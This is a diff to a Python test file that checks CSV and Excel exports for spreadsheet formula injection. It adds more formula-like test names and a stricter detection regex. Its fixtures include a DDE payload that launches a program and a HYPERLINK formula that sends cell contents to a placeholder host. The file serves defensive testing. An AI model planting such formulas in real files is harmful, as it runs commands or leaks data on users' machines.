@@ -302,6 +302,7 @@ def test_nothing_that_is_read_is_run():
 
 LIVE = '=HYPERLINK("http://example.org?"&A1,"see")'
 NAMES = [LIVE, f"a,{LIVE}", "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
+NAMES += ["-1-A1", "-A1", "+ 1+1", "-.5*$B$2", "+1e5+A1"]
 
 
 def cells_of(text):
@@ -332,6 +333,7 @@ def test_no_name_is_a_formula_in_a_table(name, tmp_path):
     for path in tmp_path.glob("*.csv"):
         for cell in cells_of(path.read_text()):
             assert not re.match(r"\s*[=@]|\s*[+-].*[(|!]", cell), (path.name, cell)
+            assert not re.match(r"\s*[+-].*[AB+]\$?\d", cell), (path.name, cell)
     for path in tmp_path.glob("*.xlsx"):
         for sheet in openpyxl.load_workbook(path):
             kinds = {cell.data_type for row in sheet for cell in row}
@@ -340,7 +342,7 @@ def test_no_name_is_a_formula_in_a_table(name, tmp_path):
 
 def test_texts_that_are_no_formulas_stay(tmp_path):
     columns = {
-        "a": ["-", "-20 degC", "+5 %", "a=b", "x, y"],
+        "a": ["-", "-20 degC", "+5 %", "-2.5e-3 1/s", "x, y"],
         "b": [1.0, -2.0, 3.0, 4.0, np.nan],
     }
     text = csv_text(["at -5 degC, -0.1 m/s, +3 %"], columns)
